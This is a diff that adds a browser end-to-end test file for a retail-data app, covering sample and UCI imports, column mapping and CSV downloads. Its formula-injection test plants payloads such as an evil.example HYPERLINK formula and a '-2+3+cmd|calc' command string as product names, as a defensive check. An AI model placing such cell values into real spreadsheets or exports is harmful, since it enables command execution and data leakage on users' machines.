@@ -1,0 +1,162 @@
+// Importing stores in the browser: the bundled sample, the full UCI file, the column mapping, CSV
+// downloads. Expected numbers: helpers.mjs (SAMPLE from www/sample/README.md, FULL from the UCI
+// reference: order level drops cancellations, Quantity <= 0 and UnitPrice <= 0; customer level
+// also drops lines without CustomerID).
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import fs from 'node:fs';
+import path from 'node:path';
+import {
+  startEnv, newPage, crashes, importSample, importFiles, navigate, readCleaningReport, dataValue,
+  dataValueChange, near, notBuilt, parseCsv, tmpDir, uciCsv, SAMPLE, FULL, UCI_FILE, TEST_TIMEOUT,
+} from './helpers.mjs';
+
+let env;
+before(async () => {
+  env = await startEnv();
+});
+after(async () => {
+  await env?.close();
+});
+
+function assertReport(r, exp, what) {
+  assert.equal(r.olLines, exp.orderLevel.lines, `${what}: order-level lines`);
+  assert.equal(r.olOrders, exp.orderLevel.orders, `${what}: order-level orders`);
+  assert.ok(near(r.olRevenue, exp.orderLevel.revenue), `${what}: order-level revenue ${r.olRevenue} != ${exp.orderLevel.revenue}`);
+  assert.equal(r.clLines, exp.customerLevel.lines, `${what}: customer-level lines`);
+  assert.equal(r.clOrders, exp.customerLevel.orders, `${what}: customer-level orders`);
+  assert.equal(r.clCustomers, exp.customerLevel.customers, `${what}: customer-level customers`);
+  assert.ok(near(r.clRevenue, exp.customerLevel.revenue), `${what}: customer-level revenue ${r.clRevenue} != ${exp.customerLevel.revenue}`);
+}
+
+function assertKpis(k, exp, what) {
+  assert.ok(near(k.revenue, exp.orderLevel.revenue), `${what}: kpi-revenue ${k.revenue} != ${exp.orderLevel.revenue}`);
+  assert.equal(k.orders, exp.orderLevel.orders, `${what}: kpi-orders`);
+  assert.equal(k.customers, exp.orderLevel.customers, `${what}: kpi-customers`);
+  assert.ok(near(k.aov, exp.orderLevel.revenue / exp.orderLevel.orders), `${what}: kpi-aov ${k.aov} != revenue / orders`);
+  assert.ok(k.repeat >= 0 && k.repeat <= 100, `${what}: kpi-repeat ${k.repeat} is a share`);
+  assert.ok(Number.isFinite(k.returns) && k.returns >= 0, `${what}: kpi-returns ${k.returns}`);
+}
+
+test('(a) the bundled sample imports and shows its known numbers', { timeout: TEST_TIMEOUT }, async () => {
+  const { page, log, url, context } = await newPage(env);
+  try {
+    const kpis = await importSample(page, url);
+    assertKpis(kpis, SAMPLE, 'sample');
+    // The KPI cards also show formatted text, not only the raw data-value.
+    const text = await page.locator('[data-testid="kpi-orders"]').innerText();
+    assert.match(text.replace(/[\s,.\u202f\u00a0']/g, ''), /6206/, `kpi-orders text: ${text}`);
+    await navigate(page, '/data');
+    assertReport(await readCleaningReport(page), SAMPLE, 'sample');
+    assert.deepEqual(crashes(log), []);
+  } finally {
+    await context.close();
+  }
+});
+
+test('(b) the full UCI Online Retail file (541,909 lines) imports with the reference numbers', { timeout: TEST_TIMEOUT }, async () => {
+  assert.ok(fs.existsSync(UCI_FILE), `missing ${UCI_FILE} (../shared/data beside the checkout)`);
+  const { page, log, url, context } = await newPage(env);
+  try {
+    const kpis = await importFiles(page, url, UCI_FILE);
+    assertKpis(kpis, FULL, 'UCI');
+    await navigate(page, '/data');
+    assertReport(await readCleaningReport(page), FULL, 'UCI');
+    assert.deepEqual(crashes(log), []);
+  } finally {
+    await context.close();
+  }
+});
+
+test('(c) the column mapping is detected and changing it updates the numbers', { timeout: TEST_TIMEOUT }, async () => {
+  const { page, log, url, context } = await newPage(env);
+  try {
+    await importSample(page, url);
+    await navigate(page, '/data');
+    await page.locator('[data-testid="mapping-table"]').waitFor();
+    const expected = { 0: 'order_id', 3: 'quantity', 5: 'unit_price', 6: 'customer_id' };
+    for (const [col, key] of Object.entries(expected)) {
+      assert.equal(await page.locator(`select[data-testid="map-col-${col}"]`).inputValue(), key, `map-col-${col}`);
+    }
+    const before = await dataValue(page, 'customer-level-customers');
+    assert.equal(before, SAMPLE.customerLevel.customers);
+    // Ignore the CustomerID column: every line becomes a guest line.
+    await page.locator('select[data-testid="map-col-6"]').selectOption('');
+    const after = await dataValueChange(page, 'customer-level-customers', before, 120_000);
+    assert.equal(after, 0, 'no customer ids once CustomerID is ignored');
+    assert.equal(await dataValue(page, 'customer-level-lines'), 0);
+    // Order level does not need customers: unchanged.
+    assert.equal(await dataValue(page, 'order-level-orders'), SAMPLE.orderLevel.orders);
+    // Map it back: the numbers come back.
+    await page.locator('select[data-testid="map-col-6"]').selectOption('customer_id');
+    assert.equal(await dataValueChange(page, 'customer-level-customers', 0, 120_000), SAMPLE.customerLevel.customers);
+    assert.deepEqual(crashes(log), []);
+  } finally {
+    await context.close();
+  }
+});
+
+// Spreadsheet formula injection: cells starting with = + - @ (tab, CR) must not be exported raw.
+const FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', '+SUM(1,2)', '@cmd', '-2+3+cmd|calc'];
+
+function formulaStore() {
+  const rows = [];
+  FORMULAS.forEach((desc, i) => {
+    for (let d = 0; d < 3; d++) {
+      rows.push([`5800${i}${d}`, `F${i}`, desc, 2 + d, `2011-0${i + 1}-1${d} 10:00:00`, '1.25', `1300${d}.0`, 'United Kingdom']);
+    }
+  });
+  rows.push(['580099', 'N1', 'PLAIN MUG', 4, '2011-05-01 09:00:00', '2.50', '13000.0', 'France']);
+  return uciCsv(rows);
+}
+
+async function download(page, testid) {
+  const [dl] = await Promise.all([page.waitForEvent('download'), page.locator(`[data-testid="${testid}"]`).first().click()]);
+  const file = await dl.path();
+  return { name: dl.suggestedFilename(), text: fs.readFileSync(file, 'utf8') };
+}
+
+function assertNoRawFormulas(rows, what) {
+  for (const row of rows) {
+    for (const cell of row) {
+      for (const f of FORMULAS) {
+        if (cell.includes(f.slice(1))) {
+          assert.ok(!/^[=+\-@\t\r]/.test(cell), `${what}: cell ${JSON.stringify(cell)} starts with a formula character`);
+        }
+      }
+    }
+  }
+}
+
+test('(d) tables download as CSV, with formula injection neutralised', { timeout: TEST_TIMEOUT }, async (t) => {
+  const dir = tmpDir();
+  const store = path.join(dir, 'formulas.csv');
+  fs.writeFileSync(store, formulaStore());
+  const { page, log, url, context } = await newPage(env);
+  try {
+    await importFiles(page, url, store);
+    await navigate(page, '/data');
+    const cleaning = await download(page, 'download-cleaning');
+    assert.match(cleaning.name, /\.csv$/i, cleaning.name);
+    const crows = parseCsv(cleaning.text);
+    assert.ok(crows.length >= 2 && crows[0].length >= 2, `cleaning CSV has a header and rows: ${cleaning.text.slice(0, 200)}`);
+
+    await navigate(page, '/products');
+    if (await notBuilt(page)) {
+      t.diagnostic('/products is not built yet: products download not checked');
+      return;
+    }
+    const products = await download(page, 'download-products');
+    assert.match(products.name, /\.csv$/i, products.name);
+    const rows = parseCsv(products.text);
+    const header = rows[0].map((h) => h.toLowerCase());
+    assert.ok(header.some((h) => /stock|sku|product/.test(h)), `products header: ${rows[0].join(',')}`);
+    assert.ok(rows.length >= 1 + FORMULAS.length, `products CSV rows: ${rows.length}`);
+    assert.ok(rows.some((r) => r.some((c) => c.includes('HYPERLINK'))), 'the product names are in the CSV');
+    assertNoRawFormulas(rows, 'products CSV');
+    assert.deepEqual(crashes(log), []);
+  } finally {
+    await context.close();
+    fs.rmSync(dir, { recursive: true, force: true });
+  }
+});
